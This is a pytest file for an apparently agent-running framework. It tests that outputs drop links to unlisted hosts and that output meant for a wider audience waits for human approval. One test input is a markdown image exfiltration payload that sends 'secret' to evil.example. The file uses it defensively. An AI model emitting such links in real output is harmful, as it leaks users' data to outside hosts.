"""The output of a run of our own: what it links to, and who may read it."""

from pathlib import Path

import pytest

from leverframe.config.project import load_project
from leverframe.core.policy.output_rules import readable
from leverframe.domain.audiences import Audience
from leverframe.domain.errors import ConfigInvalid
from leverframe.domain.labels import Confidentiality
from leverframe.domain.runs import RunOutcome, StepState
from leverframe.runtime.loops.ending import Ended, Parked
from leverframe.runtime.outcomes import Answered, HeldBack, Refused
from leverframe.runtime.why import why
from leverframe.testing import say, use_tool
from tests.door_desk import CONTRACT, open_desk, rules, write_desk
from tests.unit.test_loops_agent import AGENT_CONTRACT, ended, held, playing


@pytest.mark.parametrize(
    ("hosts", "said_", "output", "removed"),
    [
        ("[]", "See ![x](https://evil.example/?d=secret) and [it](https://example.com/a).", "See x and it.", 60),
        ("[example.com]", "See [it](https://shop.example.com/a).", "See [it](https://shop.example.com/a).", 0),
        ("[]", "data:text/html,x and https://plain.example", " and https://plain.example", 16),
    ],
)
def test_an_output_links_to_listed_hosts_alone(
    tmp_path: Path, hosts: str, said_: str, output: str, removed: int
) -> None:
    contract = AGENT_CONTRACT + f"context: {{link_hosts: {hosts}}}\n"
    with playing(tmp_path, say(said_), contract=contract) as (desk, _):
        done = ended(desk.start(message="hello"))

        detail = desk.leaves(done.run.run_id, "run.ended")[0]["detail"]
        assert done.output == output
        assert sum(int(one.partition("=")[2]) for one in detail.get("removed", ())) == removed


def test_a_typed_output_is_cleaned_in_each_of_its_texts(tmp_path: Path) -> None:
    typed = AGENT_CONTRACT + "output: {type: object, required: [say], properties: {say: {type: string}}}\n"
    with playing(tmp_path, say('{"say": "go [there](https://evil.example)", "n": 1}'), contract=typed) as (desk, _):
        done = ended(desk.start(message="hello"))

        assert done.output == {"say": "go there", "n": 1}


# Its audience.

PUBLIC = AGENT_CONTRACT + "audience: public\ninput_confidentiality: public\n"
LOOK = {"order_id": "W00001"}


@pytest.mark.parametrize(
    ("audience", "has_subject", "most"),
    [
        (Audience.PUBLIC, True, Confidentiality.PUBLIC),
        (Audience.TENANT, False, Confidentiality.TENANT),
        (Audience.SUBJECT, True, Confidentiality.TENANT),
        (Audience.SUBJECT, False, Confidentiality.PUBLIC),
    ],
)
def test_what_an_audience_may_read(audience: Audience, *, has_subject: bool, most: Confidentiality) -> None:
    assert readable(audience, has_subject=has_subject) is most


def test_an_output_of_a_run_that_saw_nothing_confidential_is_given(tmp_path: Path) -> None:
    with playing(tmp_path, say("Hello."), contract=PUBLIC) as (desk, _):
        done = ended(desk.start(message="hi"))

        assert (done.run.outcome, done.output) == (RunOutcome.SUCCESS, "Hello.")
        (decided,) = desk.leaves(done.run.run_id, "call.decided")
        assert (decided["tool"], decided["decision"], decided["rule"]) == ("give_output", "allow", "audience")


def test_an_output_that_is_wider_than_what_was_read_waits_for_a_person_and_is_given_as_it_was(tmp_path: Path) -> None:
    with playing(tmp_path, use_tool("look_up", LOOK), say("It is on its way."), contract=PUBLIC) as (desk, model):
        parked = desk.start(message="where is W00001?")
        assert isinstance(parked, Parked)
        approval = desk.approval(held(parked))
        told = desk.do(why(desk.runner.services, parked.run.run_id))
        seen = next(call for call in told.calls if call.tool == "give_output")

        assert approval.rules == ("audience",)
        assert seen.sentence == "Give to public: It is on its way."
        assert "has seen tenant values, and its output goes to public" in seen.decisions[0].text

        desk.grant(held(parked))
        done = desk.do(desk.runner.resume(parked.run.run_id))

        assert isinstance(done, Ended)
        assert (done.run.outcome, done.output) == (RunOutcome.SUCCESS, "It is on its way.")
        assert len(model.requests) == 2


def test_an_output_that_a_person_refuses_never_goes_out(tmp_path: Path) -> None:
    with playing(tmp_path, use_tool("look_up", LOOK), say("jane@example.com"), contract=PUBLIC) as (desk, _):
        parked = desk.start(message="who is it?")
        desk.deny(held(parked), reason="not for everybody")
        done = desk.do(desk.runner.resume(parked.run.run_id))

        assert isinstance(done, Ended)
        assert (done.run.outcome, done.run.stop_reason) == (RunOutcome.HANDOFF, "audience")
        assert "jane" not in str(done.output)


@pytest.mark.parametrize(("audience", "is_given"), [("tenant", True), ("subject", True), ("public", False)])
def test_the_subject_and_the_tenant_read_what_is_the_tenants(tmp_path: Path, audience: str, *, is_given: bool) -> None:
    contract = AGENT_CONTRACT + f"audience: {audience}\n"
    with playing(tmp_path, use_tool("look_up", LOOK), say("Done."), contract=contract) as (desk, _):
        assert isinstance(desk.start(message="look"), Ended) == is_given


def test_no_agent_gives_an_output_by_asking_for_it(tmp_path: Path) -> None:
    write_desk(tmp_path, CONTRACT + "audience: public\n")
    with open_desk(tmp_path) as desk:
        run = desk.open()

        assert rules(desk.call(run, "give_output", {"output": "all of it"})) == ("not-allowed",)


def test_the_output_of_an_outside_run_is_held_and_given_once_it_is_granted(tmp_path: Path) -> None:
    write_desk(tmp_path, CONTRACT + "audience: public\ninput_confidentiality: public\n")
    with open_desk(tmp_path) as desk:
        run = desk.open()
        desk.call(run, "look_up", LOOK)

        waiting = desk.do(run.give_output("It is on its way."))
        other = desk.do(run.give_output("Something else."))
        assert isinstance(waiting, HeldBack)
        assert isinstance(other, HeldBack)
        assert waiting.approval_id != other.approval_id
        desk.grant(waiting)
        desk.deny(other)
        again = desk.do(desk.runner.reopen_outside(run.run_id))

        assert isinstance(desk.do(again.give_output("It is on its way.")), Answered)
        assert isinstance(desk.do(again.give_output("Something else.")), Refused)
        states = [one.state for one in desk.steps(run.run_id).values() if one.name == "give_output"]
        assert sorted(states) == [StepState.DENIED, StepState.OK]
        # What was given is nothing that an agent may call with in the run's own name.
        assert ("output", "It is on its way.") not in again.ctx.values.known


def test_an_audience_that_nobody_knows_is_an_error(tmp_path: Path) -> None:
    write_desk(tmp_path, CONTRACT + "audience: everybody\n")

    with pytest.raises(ConfigInvalid, match="expected one of subject, tenant, public"):
        load_project(tmp_path)
